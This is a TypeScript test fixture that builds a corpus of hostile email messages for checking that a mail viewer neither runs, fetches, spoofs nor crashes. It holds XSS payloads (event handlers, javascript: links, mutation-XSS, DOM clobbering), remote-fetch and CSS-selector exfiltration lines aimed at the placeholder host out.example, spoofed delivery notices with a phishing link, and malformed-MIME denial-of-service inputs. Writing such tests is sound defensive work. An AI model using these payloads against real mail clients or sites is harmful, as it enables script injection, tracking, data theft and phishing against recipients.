/** Hostile mail: each tries to run, to fetch, to look like something else, or to break what shows it. */
export interface HostileMail {
  readonly name: string;
  readonly raw: Buffer;
  /** What must not come of it, for whoever reads a failing test. */
  readonly mustNot: string;
}

/** Where everything that leaves would go. */
const OUT = 'https://out.example';
const RUN = "parent.ran=1;top.ran=1;window.ran=1;alert('ran')";

function message(type: string, body: string, head = ''): Buffer {
  const fields = `From: Mallory <mallory@good.example>\r\nTo: alice@secure.example.org\r\nMIME-Version: 1.0\r\n${head}`;
  return Buffer.from(`${fields}Content-Type: ${type}\r\n\r\n${body}\r\n`);
}

const RUNS: Readonly<Record<string, string>> = {
  'script element': `<script>${RUN}</script>`,
  'script from elsewhere': `<script src="${OUT}/a.js"></script>`,
  'image with onerror': `<img src=x onerror="${RUN}">`,
  'onload of body': `<body onload="${RUN}">x`,
  'svg onload': `<svg onload="${RUN}"><script>${RUN}</script></svg>`,
  'svg animation of href': `<svg><a><animate attributeName=href values="javascript:${RUN}"/><text>x</text></a></svg>`,
  'javascript link': `<a href="javascript:${RUN}">x</a>`,
  'javascript link with a tab': `<a href="java\tscript:${RUN}">x</a>`,
  'frame with srcdoc': `<iframe srcdoc="<script>${RUN}</script>"></iframe>`,
  'frame with javascript': `<iframe src="javascript:${RUN}"></iframe>`,
  'object with data': `<object data="data:text/html,<script>${RUN}</script>"></object>`,
  embed: `<embed src="${OUT}/x.swf">`,
  'mutation through math': `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${RUN}&gt;">`,
  'mutation through noscript': `<noscript><p title="</noscript><img src=x onerror=${RUN}>">`,
  'mutation through template': `<template><img src=x onerror="${RUN}"></template>`,
  'details ontoggle': `<details open ontoggle="${RUN}">x</details>`,
  'autofocus onfocus': `<input autofocus onfocus="${RUN}">`,
  'marquee onstart': `<marquee onstart="${RUN}">x</marquee>`,
  'meta refresh to javascript': `<meta http-equiv="refresh" content="0;url=javascript:${RUN}">`,
  'clobbered names': `<form id=createElement><input name=parentNode></form><img name=body id=documentElement>`,
};

const FETCHES: Readonly<Record<string, string>> = {
  image: `<img src="${OUT}/i.png">`,
  'image without scheme': `<img src="//out.example/i.png">`,
  srcset: `<img srcset="${OUT}/a.png 1x, ${OUT}/b.png 2x">`,
  picture: `<picture><source srcset="${OUT}/a.png"><img src=x></picture>`,
  background: `<table background="${OUT}/b.png"><tr><td background="${OUT}/c.png">x</table>`,
  'url in style': `<p style="background:url(${OUT}/s.png)">x</p>`,
  'escaped url in style': `<p style="background:\\75rl(${OUT}/s.png)">x</p>`,
  'import of style': `<style>@import "${OUT}/s.css";</style>`,
  'exfiltration by selectors': `<style>a[href^="h"]{background:url(${OUT}/h)}</style><a href="https://x.example/">x</a>`,
  font: `<style>@font-face{font-family:f;src:url(${OUT}/f.woff2)}p{font-family:f}</style><p>x</p>`,
  'image-set': `<p style="background:image-set('${OUT}/s.png' 1x)">x</p>`,
  'style sheet': `<link rel="stylesheet" href="${OUT}/s.css">`,
  prefetch: `<link rel="prefetch" href="${OUT}/p"><link rel="dns-prefetch" href="//out.example"><link rel="preconnect" href="${OUT}">`,
  video: `<video src="${OUT}/v.mp4" poster="${OUT}/v.png" autoplay></video>`,
  audio: `<audio src="${OUT}/a.mp3" autoplay></audio>`,
  frame: `<iframe src="${OUT}/f.html"></iframe>`,
  'meta refresh': `<meta http-equiv="refresh" content="0;url=${OUT}/r">`,
  base: `<base href="${OUT}/"><img src="i.png"><a href="x">x</a>`,
  'svg image': `<svg><image href="${OUT}/i.svg"/><use href="${OUT}/u.svg#a"/></svg>`,
  'form that sends itself': `<form action="${OUT}/f" id=f><input name=a value=b><button>OK</button></form>`,
  'list picture': `<ul style="list-style:url(${OUT}/l.png)"><li>x</ul>`,
  'cursor picture': `<p style="cursor:url(${OUT}/c.cur),auto">x</p>`,
};

const SPOOFED =
  'Your message was not sent.\r\n\r\nTo: bob@bank.example\r\nPress here: https://out.example/again\r\n';
const OTHERS: readonly HostileMail[] = [
  {
    name: 'spoofed notice in plain text',
    raw: message('text/plain', SPOOFED, 'Auto-Submitted: auto-replied\r\n'),
    mustNot: 'be shown as a notice',
  },
  {
    name: 'spoofed delivery report',
    raw: message(
      'multipart/report; report-type=delivery-status; boundary=b',
      `--b\r\nContent-Type: text/plain\r\n\r\n${SPOOFED}\r\n--b\r\nContent-Type: message/delivery-status\r\n\r\nReporting-MTA: dns; mx\r\n\r\nAction: failed\r\nStatus: 5.7.1\r\n\r\n--b--`,
    ),
    mustNot: 'be shown as a notice',
  },
  {
    name: 'boundary that never ends',
    raw: message('multipart/mixed; boundary=b', '--b\r\nContent-Type: text/html\r\n\r\n<p>x'),
    mustNot: 'break the page',
  },
  {
    name: 'multipart without a boundary',
    raw: message('multipart/mixed', '--b\r\n\r\nx\r\n--b--'),
    mustNot: 'break the page',
  },
  {
    name: 'unknown charset and broken base64',
    raw: message('text/html; charset=x-none', '=!!=', 'Content-Transfer-Encoding: base64\r\n'),
    mustNot: 'break the page',
  },
  {
    name: 'deep nesting',
    raw: message('text/html', `${'<div>'.repeat(3000)}x`),
    mustNot: 'break the page',
  },
  { name: 'giant HTML', raw: message('text/html', '<p>giant</p>\r\n'.repeat(100_000)), mustNot: 'hang' },
];

function html(cases: Readonly<Record<string, string>>, mustNot: string): HostileMail[] {
  return Object.entries(cases).map(([name, body]) => ({ name, raw: message('text/html', body), mustNot }));
}

export const corpus: readonly HostileMail[] = [
  ...html(RUNS, 'run'),
  ...html(FETCHES, 'fetch anything'),
  ...OTHERS,
];
